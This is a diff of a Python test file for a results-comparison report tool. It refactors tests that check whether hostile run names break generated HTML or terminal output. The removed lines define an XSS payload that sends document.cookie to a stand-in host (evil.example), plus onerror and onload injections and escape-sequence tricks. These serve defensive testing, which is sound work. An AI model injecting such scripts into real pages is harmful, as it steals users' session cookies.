@@ -9,20 +9,15 @@ from pathlib import Path
 
 import pytest
 from helpers.command import opdcl
-from helpers.page import Page
+from helpers.page import HOSTILE, PAYLOAD, Page, safe_page
 from helpers.synthetic import METRIC, N, change, measure, write
 
-from opdcl.results import compare, plots, report
+from opdcl.results import compare, plots
 from opdcl.results.compare import write as write_page
 from opdcl.results.tables import view
 from opdcl.rundir.layout import RunDir
 
 ROOT = Path(__file__).parents[3]
-PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
-HOSTILE = (
-    f"{PAYLOAD}\x1b[31mred\x1b[0m \u202egnp.exe\u202c \ud800 | `tick` "
-    '![x](https://evil.example/x.png) $x^2$ " 漢'
-)
 
 
 def test_writing_three_files_twice_gives_the_same_bytes(three, tmp_path):
@@ -62,18 +57,6 @@ def test_markdown_and_html_show_scores_distance_settings_and_runs(three, tmp_pat
         "ours minus each other arm",
     ):
         assert words in visible
-
-
-def test_the_page_has_the_style_and_the_content_policy_of_the_report(three, tmp_path):
-    page = write_page(compare.compare(three), tmp_path / "out")[1].read_text()
-    own = next(p for p in report.write(three[0]) if p.suffix == ".html").read_text()
-    style = re.search(r"<style>.*?</style>", own, re.S)
-    policy = re.search(r"<meta http-equiv=.*?>", own)
-    assert style is not None
-    assert policy is not None
-    assert style.group() in page
-    assert policy.group() in page
-    assert "default-src 'none'" in policy.group()
 
 
 def test_the_plot_marks_base_tuned_and_every_arm(three):
@@ -141,7 +124,7 @@ def test_a_fault_of_a_run_is_told_apart_from_notes(three, tmp_path):
 @pytest.fixture
 def hostile(make) -> list[RunDir]:
     """Runs with malicious directory names, settings and suite names."""
-    folder = HOSTILE.replace("/", "\N{DIVISION SLASH}").replace("\ud800", "")
+    folder = HOSTILE.replace("/", "\N{DIVISION SLASH}").replace("\ud800", "").replace("\n", " ")
     runs = [make(f"{folder}-a", 28, 32), make('_b" onload="alert(1)', 28, 30, method="interpolate")]
     for run in runs:
         change(run, "eval", retention=[f"{PAYLOAD.replace('/', '')[:60]}"])
@@ -157,17 +140,7 @@ def test_hostile_names_run_nothing_and_break_no_page(hostile, tmp_path):
     with warnings.catch_warnings():
         warnings.simplefilter("error")
         text, html, data = (p.read_text() for p in write_page(compare.compare(hostile), tmp_path / "out"))
-    page = Page(html)
-    assert not {"script", "link", "iframe", "object", "embed", "base", "form", "img", "a"} & set(page.tags)
-    assert not [
-        name for name, _ in page.attributes if name.startswith("on") or name in ("src", "action", "srcset")
-    ]
-    assert all(value.startswith("#") for name, value in page.attributes if "href" in name)
-    assert "url(http" not in html
-    assert PAYLOAD in page.text  # shown, as text
-    ids = re.findall(r'\bid="([^"]+)"', html)
-    assert len(ids) == len(set(ids))
-    assert set(re.findall(r'(?:href="#|url\(#)([^")]+)', html)) <= set(ids)
+    assert PAYLOAD in safe_page(html).text  # shown, as text
     for content in (text, html, data):
         assert "\x1b" not in content
         assert "\u202e" not in content
@@ -283,27 +256,11 @@ def test_hostile_names_do_not_reach_the_terminal(hostile, tmp_path):
         assert "\u202e" not in done.stdout + done.stderr
 
 
-def test_importing_the_comparison_loads_neither_a_model_library_nor_a_plotting_one():
-    heavy = [
-        "torch",
-        "transformers",
-        "trl",
-        "peft",
-        "datasets",
-        "lm_eval",
-        "matplotlib",
-        "jinja2",
-        "scipy",
-        "numpy",
-    ]
-    code = f"import sys, opdcl.results.compare; print([m for m in {heavy} if m in sys.modules])"
-    done = subprocess.run(
-        [sys.executable, "-c", code],
-        capture_output=True,
-        text=True,
-        check=True,
-        cwd=Path(__file__).parents[3],
-    )
+def test_reading_results_loads_neither_a_model_library_nor_a_plotting_one():
+    heavy = ["torch", "transformers", "trl", "peft", "datasets", "lm_eval", "matplotlib"]
+    code = "import sys, opdcl.results.compare, opdcl.results.gates"
+    code += f"; print([m for m in {heavy} if m in sys.modules])"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=ROOT)
     assert done.stdout.strip() == "[]"
 
 
